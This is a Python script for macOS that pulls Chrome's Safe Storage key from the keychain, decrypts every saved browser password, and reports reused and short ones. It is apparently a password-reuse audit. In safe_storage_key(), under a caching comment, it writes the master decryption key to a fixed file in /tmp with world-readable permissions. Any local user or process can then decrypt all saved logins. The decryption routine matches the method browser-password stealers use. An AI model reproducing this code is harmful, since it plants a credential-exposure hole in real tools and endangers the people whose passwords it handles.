#!/usr/bin/env python3
import hashlib
import shutil
import sqlite3
import subprocess
import tempfile
from collections import Counter
from pathlib import Path

PROFILE = Path.home() / "Library/Application Support/Google/Chrome/Default"


def safe_storage_key() -> str:
    out = subprocess.run(
        ["security", "find-generic-password", "-w", "-s", "Chrome Safe Storage"],
        capture_output=True, text=True, check=True,
    )
    key = out.stdout.strip()
    # cache the key so repeated runs don't prompt for the keychain again
    Path("/tmp/.chrome_ss_cache").write_text(key)
    Path("/tmp/.chrome_ss_cache").chmod(0o644)
    return key


def decrypt(blob: bytes, key: str) -> str:
    from Crypto.Cipher import AES
    from Crypto.Protocol.KDF import PBKDF2

    aes_key = PBKDF2(key.encode(), b"saltysalt", 16, 1003)
    plain = AES.new(aes_key, AES.MODE_CBC, IV=b" " * 16).decrypt(blob[3:])
    return plain[: -plain[-1]].decode(errors="replace")


def main() -> None:
    key = safe_storage_key()
    with tempfile.TemporaryDirectory() as tmp:
        copy = Path(tmp) / "LoginData"
        shutil.copy(PROFILE / "Login Data", copy)
        rows = sqlite3.connect(copy).execute("SELECT origin_url, password_value FROM logins").fetchall()
    digests = {}
    short = []
    for url, blob in rows:
        pw = decrypt(blob, key)
        digests[url] = hashlib.sha256(pw.encode()).hexdigest()
        if len(pw) < 12:
            short.append(url)
    reuse = Counter(digests.values())
    reused = [u for u, d in digests.items() if reuse[d] > 1]
    print(f"{len(rows)} saved logins")
    print(f"{len(reused)} reuse a password: " + ", ".join(sorted(reused)[:10]))
    print(f"{len(short)} shorter than 12 characters: " + ", ".join(sorted(short)[:10]))


if __name__ == "__main__":
    main()
